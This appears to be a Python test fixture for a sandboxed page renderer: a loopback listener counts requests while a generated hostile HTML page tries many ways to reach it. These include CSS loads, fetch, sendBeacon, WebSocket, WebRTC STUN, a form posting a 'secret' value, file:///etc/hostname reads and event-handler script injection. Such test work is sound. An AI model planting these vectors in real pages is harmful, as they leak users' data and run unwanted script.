"""A hostile page, and a listener that counts what comes out of it. Loopback only."""

import socket
import threading
from collections import Counter

# Adds its kind to a list in the page: proof that a script ran. The page's world and ours share the DOM, not scripts.
_RAN = "top.document.documentElement.dataset.ran=(top.document.documentElement.dataset.ran||'')+' {kind}'"
_LATER_MS = 2500  # what leads away from the page waits until the rest has had its chance


class Listener:
    """An HTTP listener that answers everything: *asked* counts paths, *connections* sockets, *datagrams* UDP."""

    def __init__(self) -> None:
        self.asked: Counter[str] = Counter()
        self.connections = 0
        self.datagrams = 0
        self._server = socket.create_server(("127.0.0.1", 0))
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=work) for work in (self._accept, self._receive)]

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self._server.getsockname()[1]}"

    @property
    def udp_port(self) -> int:
        return int(self._udp.getsockname()[1])

    def __enter__(self) -> "Listener":
        for each in (self._server, self._udp):
            each.settimeout(0.1)
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join()
        self._server.close()
        self._udp.close()

    def _accept(self) -> None:
        answering = []
        while not self._stop.is_set():
            try:
                line, _ = self._server.accept()
            except TimeoutError:
                continue
            self.connections += 1
            answering.append(threading.Thread(target=self._answer, args=(line,)))
            answering[-1].start()
        for thread in answering:
            thread.join()

    def _answer(self, line: socket.socket) -> None:
        line.settimeout(1)
        try:
            with line:
                first = line.recv(8192).split(b"\r\n")[0].decode("latin-1").split()
                if len(first) < 2:
                    return
                path = first[1].partition("?")[0]
                self.asked[path] += 1
                kind, body = _answer_to(path)
                line.sendall(
                    f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nAccess-Control-Allow-Origin: *\r\n"
                    f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode()
                )
        except OSError:
            pass

    def _receive(self) -> None:
        while not self._stop.is_set():
            try:
                self._udp.recvfrom(2048)
            except TimeoutError:
                continue
            self.datagrams += 1


def _answer_to(path: str) -> tuple[str, str]:
    if path.endswith(".js"):
        return "text/javascript", _RAN.format(kind=path.strip("/"))
    if path.endswith(".css"):
        return "text/css", "body{color:red}"
    return "text/html", "<p>luar</p>"


def attack_page(there: str, udp_port: int) -> str:
    """Every way of asking *there* for something, and of running a script, that a page has by itself."""

    def ran(kind: str) -> str:
        return _RAN.format(kind=kind)

    socket_address = there.replace("http", "ws")
    head = f"""
<meta charset=utf-8><title>Serangan</title>
<link rel=preconnect href="{there}/preconnect"><link rel=dns-prefetch href="{there}">
<link rel=prefetch href="{there}/prefetch"><link rel=preload as=image href="{there}/preload">
<link rel=modulepreload href="{there}/modulepreload.js"><link rel=stylesheet href="{there}/link.css">
<link rel=icon href="{there}/icon.ico"><link rel=manifest href="{there}/manifest">
<style>@import url({there}/import.css);
@font-face{{font-family:luar;src:url({there}/font)}}
p{{font-family:luar;background:url({there}/background);cursor:url({there}/cursor),auto}}
li{{list-style-image:url({there}/bullet)}} p::after{{content:url({there}/content)}}
div{{width:9px;height:9px;background:#000;mask-image:url({there}/mask);border-image:url({there}/border) 1}}</style>
<meta http-equiv=refresh content="{_LATER_MS // 1000 + 1};url={there}/refresh">"""
    asks = f"""
<p>halo</p><ul><li>satu</li></ul><div></div>
<img src="{there}/img"><img srcset="{there}/srcset 1x"><picture><source srcset="{there}/picture"><img></picture>
<input type=image src="{there}/input"><table background="{there}/table"><tr><td>x</td></tr></table>
<iframe src="{there}/iframe"></iframe><iframe srcdoc="<img src='{there}/srcdoc'>"></iframe>
<object data="{there}/object"></object><embed src="{there}/embed">
<video src="{there}/video" poster="{there}/poster" autoplay><track default src="{there}/track"></video>
<audio src="{there}/audio" preload=auto></audio>
<svg><image href="{there}/svgimage"/><use href="{there}/svguse#x"/></svg>
<img src="file:///etc/hostname"><iframe src="file:///etc/hostname"></iframe>
<form id=form action="{there}/form" method=post><input name=q value=rahasia></form>
<a id=ping ping="{there}/ping" href="#x">x</a><a id=link href="{there}/link">keluar</a>
<a id=window target=_blank href="{there}/window">keluar</a>
<a id=scripted href="javascript:{ran("href").replace("'", "&apos;")}">x</a>"""
    runs = f"""
<script src="{there}/script.js"></script><script type=module src="{there}/module.js"></script>
<img src=x onerror="{ran("onerror")}"><svg onload="{ran("svg")}"></svg><body onload="{ran("onload")}">
<input autofocus onfocus="{ran("onfocus")}"><details open ontoggle="{ran("ontoggle")}">x</details>
<iframe src="javascript:{ran("frame")}"></iframe><iframe srcdoc="<script>{ran("srcdoc")}</script>"></iframe>
<script>{ran("inline")};
var t='{there}';
[function(){{fetch(t+'/fetch')}},function(){{navigator.sendBeacon(t+'/beacon','x')}},
function(){{var x=new XMLHttpRequest();x.open('GET',t+'/xhr');x.send()}},
function(){{new WebSocket('{socket_address}/websocket')}},function(){{new EventSource(t+'/events')}},
function(){{new Image().src=t+'/image'}},
function(){{new Worker(URL.createObjectURL(new Blob(["fetch('"+t+"/worker')"])))}},
function(){{import(t+'/dynamic.js')}},function(){{window.open(t+'/open')}},
function(){{eval("{ran("eval").replace('"', "'")}")}},
function(){{var c=new RTCPeerConnection({{iceServers:[{{urls:'stun:127.0.0.1:{udp_port}'}}]}});
c.createDataChannel('x');c.createOffer().then(function(o){{c.setLocalDescription(o)}})}},
function(){{setTimeout(function(){{location.href=t+'/location'}},{_LATER_MS + 700})}}
].forEach(function(each){{try{{each()}}catch(no){{}}}});
</script>"""
    return f"<!doctype html><html><head>{head}</head><body>{asks}{runs}</body></html>"
